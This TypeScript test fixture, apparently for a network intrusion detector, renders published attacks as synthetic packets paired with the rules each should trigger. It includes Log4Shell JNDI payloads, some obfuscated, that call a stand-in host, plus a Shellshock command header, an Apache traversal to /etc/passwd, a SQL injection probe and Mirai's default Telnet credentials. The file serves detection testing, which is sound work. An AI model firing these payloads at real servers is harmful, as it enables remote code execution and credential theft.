/** Published attacks and tools on networks, as packets like those that they send, and the rules that fire on each. */
import {
  arpReply,
  clientHello,
  dhcpDiscovers,
  dhcpOffer,
  type Item,
  llmnrAnswer,
  NO_NAME_GROUPS,
  portsUnreachable,
  routerAdvertisement,
  serverHello,
} from './frames.ts'

export interface NetworkAttack {
  readonly technique: string
  readonly source: string
  readonly link: string
  readonly rules: readonly string[]
  readonly frames: readonly Item[]
}

const CLIENT = '10.0.0.1:40000'
/** What a lookup of Log4j begins with. */
const LOOKUP = ['$', '{'].join('')
const attack = (
  technique: string,
  source: string,
  link: string,
  rules: string,
  frames: readonly Item[],
): NetworkAttack => ({
  technique,
  source,
  link,
  rules: rules === '' ? [] : rules.split(' '),
  frames,
})
const request = (text: string): Item => ({ tcp: `${CLIENT} > 10.0.0.2:80`, text: `${text}\r\n\r\n` })
const hello = (server: string, hex: string, more: object = {}): Item => ({
  tcp: `${CLIENT} > ${server}:443`,
  hex,
  ...more,
})

/** WinINet of Windows 10 without a server's name, as Cobalt Strike 4.9.1 uses it. */
const BEACON = clientHello(
  0x0303,
  [
    0xc02c, 0xc02b, 0xc030, 0xc02f, 0xc024, 0xc023, 0xc028, 0xc027, 0xc00a, 0xc009, 0xc014, 0xc013, 0x9d, 0x9c, 0x3d,
    0x3c, 0x35, 0x2f, 0x0a,
  ],
  [5, 10, 11, 13, 35, 23, 65281],
)
const TRICKBOT = clientHello(
  0x0301,
  [47, 53, 5, 10, 49171, 49172, 49161, 49162, 50, 56, 19, 4],
  [65281, 10, 11],
  NO_NAME_GROUPS,
)

const SCANS: readonly NetworkAttack[] = [
  attack('SYN scan of one host', 'Nmap -sS', 'https://nmap.org/book/synscan.html', 'net-port-scan net-tcp-resets', [
    { tcp: `${CLIENT} > 10.0.0.2:{n}`, flags: 'S', repeat: 80, every: 10 },
    { tcp: `10.0.0.2:{n} > ${CLIENT}`, flags: 'RA', repeat: 80, every: 10 },
  ]),
  attack(
    'Slow scan, a port each 15 seconds',
    'Nmap -T1',
    'https://nmap.org/book/performance-timing-templates.html',
    'net-port-scan-slow',
    [{ tcp: `${CLIENT} > 10.0.0.2:{n}`, flags: 'S', repeat: 120, every: 15_000 }],
  ),
  attack('Xmas scan', 'Nmap -sX', 'https://nmap.org/book/scan-methods-null-fin-xmas-scan.html', 'net-stealth-scan', [
    { tcp: `${CLIENT} > 10.0.0.2:{n}`, flags: 'FPU', repeat: 30 },
  ]),
  attack(
    'UDP scan, closed ports answer',
    'Nmap -sU',
    'https://nmap.org/book/scan-methods-udp-scan.html',
    'net-udp-scan',
    [portsUnreachable(40)],
  ),
  attack(
    'A bot looks for Telnet',
    'Antonakakis et al., USENIX Security 2017 (Mirai)',
    'https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis',
    'net-host-scan net-service-sweep',
    [{ tcp: `${CLIENT} > 198.51.100.{n}:23`, flags: 'S', repeat: 120, every: 20 }],
  ),
  attack(
    'A worm looks for SMB',
    'CISA TA17-132A (WannaCry)',
    'https://www.cisa.gov/news-events/alerts/2017/05/12/indicators-associated-wannacry-ransomware',
    'net-host-scan net-service-sweep net-smb1',
    [
      { tcp: `${CLIENT} > 10.0.1.{n}:445`, flags: 'S', repeat: 100, every: 50 },
      { tcp: `${CLIENT} > 10.0.1.7:445`, hex: '00000020ff534d4273000000001807c80000' },
    ],
  ),
  attack(
    'A whole zone is asked for',
    'MITRE ATT&CK T1590.002',
    'https://attack.mitre.org/techniques/T1590/002/',
    'net-dns-zone-transfer',
    [{ udp: `${CLIENT} > 10.0.0.53:53`, dns: { name: 'corp.example', type: 252 } }],
  ),
]

const LAN: readonly NetworkAttack[] = [
  attack(
    'ARP spoofing of the gateway',
    'bettercap arp.spoof',
    'https://www.bettercap.org/modules/ethernet/spoofers/arp.spoof/',
    'net-arp-conflict net-arp-spoofing',
    [arpReply('10.0.0.254', '020000000001'), { frame: arpReply('10.0.0.254', '020000000066'), repeat: 20 }],
  ),
  attack(
    'A second DHCP server hands out routes',
    'Leviathan Security (TunnelVision, CVE-2024-3661)',
    'https://nvd.nist.gov/vuln/detail/CVE-2024-3661',
    'net-dhcp-rogue',
    [dhcpOffer('10.0.0.254'), dhcpOffer('10.0.0.66')],
  ),
  attack(
    'All addresses of a DHCP server are taken',
    'DHCPig',
    'https://github.com/kamorin/DHCPig',
    'net-dhcp-starvation',
    [dhcpDiscovers(80)],
  ),
  attack(
    'One machine answers for every name',
    'Responder',
    'https://github.com/lgandx/Responder',
    'net-name-poisoning',
    [...['fileserv', 'printer7', 'wpad', 'intranet', 'shrae'].map((name) => llmnrAnswer('10.0.0.66', name))],
  ),
  attack('A second IPv6 router', 'Fox-IT (mitm6)', 'https://github.com/dirkjanm/mitm6', 'net-ipv6-router', [
    routerAdvertisement(1),
    routerAdvertisement(0x66),
  ]),
]

const TUNNELS: readonly NetworkAttack[] = [
  attack(
    'Tunnel over DNS with NULL records',
    'iodine',
    'https://github.com/yarrick/iodine',
    'net-dns-tunnel-names net-dns-tunnel-types',
    [
      {
        udp: `${CLIENT} > 10.0.0.53:53`,
        dns: { name: '0ibba{n}2hbu2uvxzq4mnbdvaaaaaaevxzq4mnbdvaaaaaaevxzq4mnbdvaa.t.example', type: 10 },
        repeat: 80,
      },
    ],
  ),
  attack(
    'Commands over DNS with TXT records',
    'dnscat2',
    'https://github.com/iagox86/dnscat2',
    'net-dns-tunnel-names net-dns-tunnel-types',
    [
      {
        udp: `${CLIENT} > 10.0.0.53:53`,
        dns: { name: 'dnscat.1f{n}0150b3a5ab7c2d9e8f0a1b2c3d4e5f60718293a4b5c6d7.example', type: 16 },
        repeat: 60,
        every: 500,
      },
    ],
  ),
  attack(
    'Names made by an algorithm',
    'SRI International (Conficker)',
    'https://attack.mitre.org/software/S0608/',
    'net-dns-made-up-names',
    [{ udp: `10.0.0.53:53 > ${CLIENT}`, dns: { name: 'qzvxkwbn{n}.info', type: 1, rcode: 3 }, repeat: 60 }],
  ),
  attack('Tunnel over ICMP', 'ptunnel-ng', 'https://github.com/utoni/ptunnel-ng', 'net-icmp-replies net-icmp-tunnel', [
    { icmp: '10.0.0.1 > 203.0.113.5', fill: 1024, repeat: 40 },
    { icmp: '203.0.113.5 > 10.0.0.1', fill: 900, reply: true, repeat: 40 },
  ]),
  attack(
    'SSH to a server’s port 443',
    'MITRE ATT&CK T1572',
    'https://attack.mitre.org/techniques/T1572/',
    'net-ssh-on-other-service',
    [{ tcp: `${CLIENT} > 203.0.113.5:443`, text: 'SSH-2.0-OpenSSH_9.6\r\n' }],
  ),
]

const CONTROL: readonly NetworkAttack[] = [
  attack(
    'A beacon calls home each minute',
    'FoxIO (JA4 of Cobalt Strike 4.9.1)',
    'https://github.com/FoxIO-LLC/ja4',
    'net-beacon net-tls-ja3-list net-tls-ja4-list',
    [{ tcp: '10.0.0.1:{n} > 203.0.113.5:443', flags: 'S', repeat: 25, every: 60_000 }, hello('203.0.113.5', BEACON)],
  ),
  attack('A bot’s TLS', 'Salesforce (JA3 of Trickbot)', 'https://github.com/salesforce/ja3', 'net-tls-ja3-list', [
    hello('203.0.113.6', TRICKBOT),
  ]),
  attack(
    'A miner logs in to its pool',
    'XMRig (Stratum)',
    'https://github.com/xmrig/xmrig-proxy/blob/master/doc/STRATUM.md',
    'net-cryptomining',
    [
      {
        tcp: `${CLIENT} > 203.0.113.5:3333`,
        text: '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48x","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}}\n',
      },
    ],
  ),
  attack(
    'Files are taken to a storage service',
    'MITRE ATT&CK T1567.002',
    'https://attack.mitre.org/techniques/T1567/002/',
    'net-upload-conversation',
    [{ tcp: `${CLIENT} > 203.0.113.9:443`, fill: 60_000, repeat: 900, every: 10 }],
  ),
]

const EXPLOITS: readonly NetworkAttack[] = [
  attack(
    'Log4Shell in a header',
    'CVE-2021-44228',
    'https://nvd.nist.gov/vuln/detail/CVE-2021-44228',
    'net-log4shell',
    [request(`GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${LOOKUP}jndi:ldap://203.0.113.5:1389/a}`)],
  ),
  attack(
    'Log4Shell, taken apart by lookups',
    'Cloudflare',
    'https://blog.cloudflare.com/exploitation-of-cve-2021-44228-before-public-disclosure-and-evolution-of-waf-evasion-patterns/',
    'net-log4shell',
    [
      request(
        `GET / HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${LOOKUP}${LOOKUP}lower:j}${LOOKUP}upper:n}${LOOKUP}::-d}${LOOKUP}::-i}:${LOOKUP}lower:l}dap://203.0.113.5/a}`,
      ),
    ],
  ),
  attack(
    'Log4Shell, percent-encoded',
    'Cloudflare',
    'https://blog.cloudflare.com/exploitation-of-cve-2021-44228-before-public-disclosure-and-evolution-of-waf-evasion-patterns/',
    'net-log4shell',
    [request('GET /?x=%24%7bjndi%3adns%3a%2f%2f203.0.113.5%2fa%7d HTTP/1.1\r\nHost: a')],
  ),
  attack(
    'Shellshock in a header',
    'CVE-2014-6271',
    'https://nvd.nist.gov/vuln/detail/CVE-2014-6271',
    'net-shellshock',
    [request('GET /cgi-bin/status HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :;}; echo; /bin/id')],
  ),
  attack(
    'Apache is led out of its folder',
    'CVE-2021-41773',
    'https://nvd.nist.gov/vuln/detail/CVE-2021-41773',
    'net-http-traversal',
    [request('GET /cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: a')],
  ),
  attack('SQL by a program that tries it', 'sqlmap', 'https://sqlmap.org/', 'net-http-scanner net-http-sql-injection', [
    request(
      'GET /item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL-- HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.8.2#stable (https://sqlmap.org)',
    ),
  ]),
  attack('SYN flood', 'RFC 4987', 'https://www.rfc-editor.org/rfc/rfc4987', 'net-syn-flood', [
    { tcp: '198.51.100.7:{n} > 10.0.0.2:80', flags: 'S', repeat: 6000, every: 1 },
  ]),
]

const LOGINS: readonly NetworkAttack[] = [
  attack(
    'Passwords of FTP are guessed',
    'THC Hydra',
    'https://github.com/vanhauser-thc/thc-hydra',
    'net-ftp-password net-login-failures',
    [
      { tcp: `${CLIENT} > 10.0.0.2:21`, text: 'USER root\r\n' },
      { tcp: `${CLIENT} > 10.0.0.2:21`, text: 'PASS 123456\r\n' },
      { tcp: `10.0.0.2:21 > ${CLIENT}`, text: '530 Login incorrect.\r\n', repeat: 20 },
    ],
  ),
  attack(
    'Passwords of SSH are guessed',
    'THC Hydra',
    'https://github.com/vanhauser-thc/thc-hydra',
    'net-ssh-guessing',
    [{ tcp: '10.0.0.1:{n} > 10.0.0.2:22', text: 'SSH-2.0-libssh_0.10.6\r\n', repeat: 30, every: 1000 }],
  ),
  attack(
    'Passwords of remote desktops are guessed',
    'MITRE ATT&CK T1110.001',
    'https://attack.mitre.org/techniques/T1110/001/',
    'net-remote-guessing',
    [{ tcp: '10.0.0.1:{n} > 10.0.0.2:3389', flags: 'S', repeat: 40, every: 1000 }],
  ),
  attack(
    'A bot logs in over Telnet',
    'Antonakakis et al., USENIX Security 2017 (Mirai)',
    'https://www.usenix.org/conference/usenixsecurity17/technical-sessions/presentation/antonakakis',
    'net-telnet-login',
    [
      { tcp: `10.0.0.2:23 > ${CLIENT}`, text: 'login: ' },
      { tcp: `${CLIENT} > 10.0.0.2:23`, text: 'root\r\n' },
      { tcp: `10.0.0.2:23 > ${CLIENT}`, text: 'Password: ' },
      { tcp: `${CLIENT} > 10.0.0.2:23`, text: 'xc3511\r\n' },
    ],
  ),
  attack(
    'Mail passwords in clear',
    'MITRE ATT&CK T1040',
    'https://attack.mitre.org/techniques/T1040/',
    'net-imap-password net-pop-password net-smtp-password',
    [
      { tcp: `${CLIENT} > 10.0.0.2:25`, text: 'AUTH PLAIN AGFsaWNlAHMzY3JldA==\r\n' },
      { tcp: `${CLIENT} > 10.0.0.2:110`, text: 'PASS s3cret\r\n' },
      { tcp: `${CLIENT} > 10.0.0.2:143`, text: 'a1 LOGIN alice s3cret\r\n' },
    ],
  ),
]

const WEAK: readonly NetworkAttack[] = [
  attack(
    'FREAK: a cipher for export',
    'CVE-2015-0204',
    'https://nvd.nist.gov/vuln/detail/CVE-2015-0204',
    'net-tls-no-protection net-tls-old-version',
    [{ tcp: `10.0.0.2:443 > ${CLIENT}`, hex: serverHello(0x0301, 0x0003) }],
  ),
  attack('POODLE: SSL 3.0', 'CVE-2014-3566', 'https://nvd.nist.gov/vuln/detail/CVE-2014-3566', 'net-tls-ssl3', [
    { tcp: `10.0.0.2:443 > ${CLIENT}`, hex: serverHello(0x0300, 0x0035) },
  ]),
  attack('SWEET32: 3DES', 'CVE-2016-2183', 'https://nvd.nist.gov/vuln/detail/CVE-2016-2183', 'net-tls-weak-cipher', [
    { tcp: `10.0.0.2:443 > ${CLIENT}`, hex: serverHello(0x0303, 0x000a) },
  ]),
]

export const NETWORK_ATTACKS: readonly NetworkAttack[] = [
  ...SCANS,
  ...LAN,
  ...TUNNELS,
  ...CONTROL,
  ...EXPLOITS,
  ...LOGINS,
  ...WEAK,
]
